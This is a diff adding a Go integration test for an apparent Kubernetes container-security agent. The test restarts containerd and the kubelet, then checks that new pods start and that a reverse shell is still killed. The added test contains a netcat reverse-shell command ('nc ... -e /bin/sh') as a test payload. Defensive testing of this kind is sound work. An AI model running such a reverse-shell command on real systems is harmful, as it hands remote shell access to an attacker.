@@ -2,6 +2,9 @@ package k8s
 
 import (
 	"fmt"
+	"os"
+	"os/exec"
+	"path/filepath"
 	"strings"
 	"testing"
 	"time"
@@ -81,5 +84,41 @@ func TestAgentGoneKeepsEnforcementAndNoDeadlock(t *testing.T) {
 		"/ocigate-agentd", "status", "-o", "json", "--socket="+cluster.runDir+"/agentd.sock")
 	if !strings.Contains(st, id) {
 		t.Errorf("the new agent does not list the running pod's container %s:\n%s", id, st)
+	}
+}
+
+// TestRuntimeRestartsWhileDaemonSetExists restarts containerd, then the
+// kubelet, with the DaemonSet in place: the agent's pod comes back ready
+// (its NRI plugin reconnects), new pods start, and a reverse shell
+// started after each restart is still killed.
+func TestRuntimeRestartsWhileDaemonSetExists(t *testing.T) {
+	root, _ := filepath.Abs("../..")
+	ns := namespace(t, cluster.prefix+"-restarts")
+	l := listen(t, "127.0.0.1:0")
+	for _, what := range []string{"containerd", "kubelet"} {
+		out, err := exec.Command(filepath.Join(root, "scripts/k8s-cluster.sh"), "restart", os.Getenv("K8S_DIR"), what).CombinedOutput()
+		if err != nil {
+			t.Fatalf("restart %s: %v\n%s", what, err, out)
+		}
+		kubectl(t, "", "-n", cluster.ns, "rollout", "status", "daemonset/ocigate", "--timeout=120s")
+		eventually(t, 60*time.Second, "agent ready after the "+what+" restart", func() error {
+			ready := kubectl(t, "", "-n", cluster.ns, "get", "pods", "-o", "jsonpath={.items[*].status.containerStatuses[*].ready}")
+			if ready != "true true" {
+				return fmt.Errorf("ready %q", ready)
+			}
+			return nil
+		})
+		code, _ := run(t, podSpec{ns: ns, name: "after-" + what, image: "busybox", shell: "/bin/sh", script: "echo started"})
+		if code != 0 {
+			t.Errorf("after the %s restart a plain pod exited %d", what, code)
+		}
+		_, logs := run(t, podSpec{ns: ns, name: "revshell-after-" + what, image: "busybox", shell: "/bin/sh", hostNetwork: true,
+			script: fmt.Sprintf("nc 127.0.0.1 %d -e /bin/sh; echo rc=$?", l.port())})
+		if !strings.Contains(logs, "rc=137") {
+			t.Errorf("after the %s restart the reverse shell was not killed: %q", what, logs)
+		}
+	}
+	if l.answered.Load() {
+		t.Errorf("a shell answered the listener")
 	}
 }
